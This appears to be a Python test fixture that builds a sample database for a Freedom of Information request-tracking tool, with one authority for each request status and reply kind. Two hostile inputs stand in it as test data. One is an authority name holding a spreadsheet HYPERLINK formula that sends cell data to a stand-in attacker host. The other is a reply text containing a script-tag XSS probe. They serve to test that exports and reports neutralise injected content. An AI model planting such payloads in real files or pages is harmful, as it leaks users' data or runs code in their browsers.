"""A hand-built campaign database for the outcome tests: every status and reply kind, through the real store.

Rows are written the way the sending, polling and chasing code writes them (the same tables and columns),
so the export, status and report tests read exactly what a real run leaves behind.
"""

from __future__ import annotations

import hashlib
import json
from dataclasses import dataclass, field
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

from foibot.store import Store, open_store

# Sent 2023-04-17 (the contract's example): due 2023-05-17 for FOIA bodies.
SENT = "2023-04-17T09:00:00+00:00"
NOW = datetime(2023, 7, 3, 10, 0, tzinfo=UTC)
RUN = "fusus-2023"


@dataclass
class Built:
    store: Store
    ids: dict[str, int] = field(default_factory=dict)  # authority id -> request id


def open_campaign(folder: Path) -> Store:
    return open_store(folder / "foibot.db", folder / "files")


def add_authority(
    store: Store, ident: str, name: str, kind: str = "council", jurisdiction: str = "england"
) -> None:
    store.db["authorities"].insert(
        {
            "id": ident,
            "name": name,
            "email": f"foi@{ident}.gov.uk",
            "kind": kind,
            "jurisdiction": jurisdiction,
            "extra": "{}",
            "updated_at": SENT,
        }
    )


def add_run(store: Store, run: str = RUN, template: str = "fusus") -> None:
    store.db["runs"].insert({"id": run, "template": template, "created_at": SENT})


def add_request(
    store: Store,
    ident: str,
    reference: str,
    *,
    run: str = RUN,
    status: str = "awaiting_response",
    sent_at: str | None = SENT,
    **columns: Any,
) -> int:
    row = store.db["authorities"].get(ident)
    values = {
        "run": run,
        "authority_id": ident,
        "reference": reference,
        "authority_name": row["name"],
        "authority_email": row["email"],
        "jurisdiction": row["jurisdiction"],
        "regime": "foisa" if row["jurisdiction"] == "scotland" else "foia",
        "status": status,
        "created_at": SENT,
        "sent_at": sent_at,
    }
    values.update(columns)
    request_id = store.db["requests"].insert(values).last_pk
    if sent_at:
        add_out(store, request_id, "request", sent_at)
    return int(request_id)


def add_out(store: Store, request_id: int, stage: str, sent_at: str, state: str = "sent") -> int:
    raw = f"Subject: {stage}\r\n\r\nour {stage}\r\n".encode()
    return int(
        store.db["messages"]
        .insert(
            {
                "direction": "out",
                "request_id": request_id,
                "stage": stage,
                "state": state,
                "message_id": f"<{request_id}.{stage}@campaign.example>",
                "from_addr": "campaigner@campaign.example",
                "subject": stage,
                "raw": raw,
                "size": len(raw),
                "sha256": hashlib.sha256(raw).hexdigest(),
                "created_at": sent_at,
                "sent_at": sent_at if state == "sent" else None,
            }
        )
        .last_pk
    )


def add_in(
    store: Store,
    request_id: int | None,
    kind: str | None,
    at: str,
    text: str = "",
    subject: str = "RE: Freedom of Information request",
    from_addr: str = "foi@council.gov.uk",
    triage: bool = False,
    attachments: list[tuple[str, str, bytes, str]] | None = None,
) -> int:
    raw = f"From: {from_addr}\r\nSubject: {subject}\r\n\r\n{text}\r\n".encode()
    digest = hashlib.sha256(raw + at.encode() + str(request_id).encode()).hexdigest()
    message_id = int(
        store.db["messages"]
        .insert(
            {
                "direction": "in",
                "request_id": request_id,
                "state": "parsed",
                "dedupe_key": f"sha:{digest}",
                "from_addr": from_addr,
                "subject": subject,
                "raw": raw,
                "size": len(raw),
                "sha256": digest,
                "created_at": at,
                "text": text,
                "kind": kind,
                "triage": 1 if triage else 0,
                "confidence": 0.9 if kind else None,
            }
        )
        .last_pk
    )
    for index, (name, content_type, data, extracted) in enumerate(attachments or [], start=1):
        stored = f"{message_id:06d}-{index}.pdf"
        (store.files_dir).mkdir(parents=True, exist_ok=True)
        (store.files_dir / stored).write_bytes(data)
        store.db["attachments"].insert(
            {
                "message_id": message_id,
                "part_index": index,
                "filename": name,
                "stored_path": stored,
                "content_type": content_type,
                "size": len(data),
                "sha256": hashlib.sha256(data).hexdigest(),
                "text": extracted,
                "status": "ok",
            }
        )
    return message_id


ANSWERS = json.dumps({"q1": "No contact with Fusus.", "q2": "N/A", "q3": "No communications received."})
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def add_answered(store: Store, ident: str, reference: str, outcome: str, at: str, text: str, **request: Any) -> int:
    """A request answered by one reply at `at` (its first), of the outcome's kind; the request's id."""
    request_id = add_request(store, ident, reference, status="answered", outcome=outcome, outcome_at=at,
                             first_reply_at=at, **request)
    add_in(store, request_id, outcome, at, text)
    return request_id


def add_second_run(store: Store, run: str, reference: str) -> None:
    """A second run beside the built one: one request, to Barnet, still awaiting a reply."""
    with store.transaction():
        add_run(store, run)
        add_request(store, "barnet", reference, run=run)


def build(folder: Path) -> Built:
    """Every status and every reply kind, one authority each, with known right answers (see test_export)."""
    store = open_campaign(folder)
    built = Built(store)
    with store.transaction():
        add_run(store)
        authorities = [
            ("barnet", "London Borough of Barnet", "council", "england"),
            ("refuser", "Refusing Borough Council", "council", "england"),
            ("silent", "Silent District Council", "council", "england"),
            ("reviewed", "Reviewed Constabulary", "police_force", "england"),
            ("asker", "Asking Combined Authority", "combined_authority", "england"),
            ("dead", "Dead Address Council", "council", "wales"),
            ("withdrawn", "Withdrawn Council", "council", "northern_ireland"),
            ("queued", "Queued Council", "council", "england"),
            ("recent", "Recent Council", "council", "england"),
            ("extended", "Extended Commissioner", "police_commissioner", "england"),
            ("scot", "Scottish Council", "council", "scotland"),
            ("ncnd", "Quiet Police", "police_force", "uk"),
            ("formula", FORMULA_NAME, "council", "england"),
        ]
        for ident, name, kind, jurisdiction in authorities:
            add_authority(store, ident, name, kind, jurisdiction)
        ids = built.ids

        ids["barnet"] = add_request(
            store,
            "barnet",
            "FB-AAAAA2",
            status="answered",
            outcome="not_held",
            outcome_at="2023-05-16T10:00:00+00:00",
            first_reply_at="2023-04-18T08:00:00+00:00",
            authority_ref="9645568",
            answers=ANSWERS,
        )
        add_in(
            store, ids["barnet"], "acknowledgement", "2023-04-18T08:00:00+00:00", "We received your request."
        )
        add_in(
            store,
            ids["barnet"],
            "not_held",
            "2023-05-16T10:00:00+00:00",
            "No communications received.",
            attachments=[("response letter.pdf", "application/pdf", b"%PDF-1.4 fake", "Our ref: 9645568")],
        )

        ids["refuser"] = add_request(
            store,
            "refuser",
            "FB-BBBBB2",
            status="answered",
            outcome="refused",
            outcome_at="2023-06-01T11:00:00+00:00",
            first_reply_at="2023-06-01T11:00:00+00:00",
            exemptions="s43(2);s12(1)",
        )
        add_out(store, ids["refuser"], "reminder", "2023-05-18T09:30:00+00:00")
        add_in(
            store,
            ids["refuser"],
            "refused",
            "2023-06-01T11:00:00+00:00",
            "The information is exempt under section 43(2). <script>alert(1)</script>",
        )

        ids["silent"] = add_request(store, "silent", "FB-CCCCC2")
        add_out(store, ids["silent"], "reminder", "2023-05-18T09:30:00+00:00")
        add_out(store, ids["silent"], "internal_review", "2023-06-15T09:30:00+00:00", state="failed")

        ids["reviewed"] = add_request(
            store,
            "reviewed",
            "FB-DDDDD2",
            status="internal_review",
            review_requested_at="2023-06-15T09:30:00+00:00",
            authority_ref="CA226",
            first_reply_at="2023-06-16T09:00:00+00:00",
        )
        add_out(store, ids["reviewed"], "reminder", "2023-05-18T09:30:00+00:00")
        add_out(store, ids["reviewed"], "internal_review", "2023-06-15T09:30:00+00:00")
        store.add_event(
            ids["reviewed"],
            "complaint_written",
            datetime(2023, 7, 3, 9, 30, tzinfo=UTC),
            {
                "path": str((folder / "complaints" / "FB-DDDDD2-complaint-ico.txt").resolve()),
                "regulator": "Information Commissioner's Office",
            },
        )
        add_in(
            store,
            ids["reviewed"],
            "internal_review_result",
            "2023-06-16T09:00:00+00:00",
            "We acknowledge your request for an internal review.",
        )
        add_in(store, ids["reviewed"], "other", "2023-06-17T09:00:00+00:00", "Please see the attached.")

        ids["asker"] = add_request(
            store,
            "asker",
            "FB-EEEEE2",
            status="awaiting_clarification",
            clarification_at="2023-04-20T12:00:00+00:00",
            first_reply_at="2023-04-20T12:00:00+00:00",
        )
        add_in(
            store,
            ids["asker"],
            "clarification_requested",
            "2023-04-20T12:00:00+00:00",
            "Could you clarify which period you mean?",
        )

        ids["dead"] = add_request(
            store, "dead", "FB-FFFFF2", status="failed", failed_reason="550 5.1.1 no such user"
        )
        add_in(
            store,
            ids["dead"],
            "bounce",
            "2023-04-17T09:05:00+00:00",
            "Delivery has failed.",
            from_addr="mailer-daemon@mx.example",
        )

        ids["withdrawn"] = add_request(
            store, "withdrawn", "FB-GGGGG2", status="withdrawn", withdrawn_at="2023-05-01T09:00:00+00:00"
        )

        ids["queued"] = add_request(store, "queued", "FB-HHHHH2", status="queued", sent_at=None)

        ids["recent"] = add_request(store, "recent", "FB-JJJJJ2", sent_at="2023-06-26T09:00:00+00:00")
        add_in(store, ids["recent"], "auto_reply", "2023-06-26T09:01:00+00:00", "I am out of the office.")
        # A copy of our own request that came back into the mailbox: filed, but not a reply.
        own = add_in(store, ids["recent"], None, "2023-06-26T09:00:30+00:00", "our own words")
        store.db["messages"].update(own, {"match_method": "own_message"})

        ids["extended"] = add_request(
            store,
            "extended",
            "FB-KKKKK2",
            status="answered",
            outcome="partially_provided",
            outcome_at="2023-06-05T09:00:00+00:00",
            first_reply_at="2023-05-10T09:00:00+00:00",
            extension_at="2023-05-10T09:00:00+00:00",
            extension_to="2023-06-14",
            exemptions='["s40(2)"]',
            answers=json.dumps({"q1": "-1 meetings", "q2": "Attached, redacted."}),
        )
        add_in(store, ids["extended"], "extension", "2023-05-10T09:00:00+00:00", "We need more time.")
        add_in(store, ids["extended"], "partially_provided", "2023-06-05T09:00:00+00:00", "Some is attached.")

        ids["scot"] = add_answered(store, "scot", "FB-MMMMM2", "information_provided", "2023-05-12T09:00:00+00:00",
                                   "Here it is.")
        ids["ncnd"] = add_answered(store, "ncnd", "FB-NNNNN2", "neither_confirm_nor_deny",
                                   "2023-05-17T15:00:00+00:00", "We can neither confirm nor deny.",
                                   exemptions="s23(5);s24(2)")
        ids["formula"] = add_answered(store, "formula", "FB-PPPPP2", "not_held", "2023-05-02T09:00:00+00:00",
                                      "Not held.", authority_ref="@ref-1")

        # A reply nobody could file: in triage, counted nowhere in the table.
        add_in(
            store,
            None,
            None,
            "2023-06-20T09:00:00+00:00",
            "Re: your request",
            triage=True,
            subject="A reply with no reference",
            from_addr="someone@elsewhere.example",
        )
    return built


class _StartTags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def elements(page: str) -> list[tuple[str, dict[str, str | None]]]:
    """Every start tag of a published page, in order, with its attributes (for the report's tests)."""
    parser = _StartTags()
    parser.feed(page)
    return parser.tags
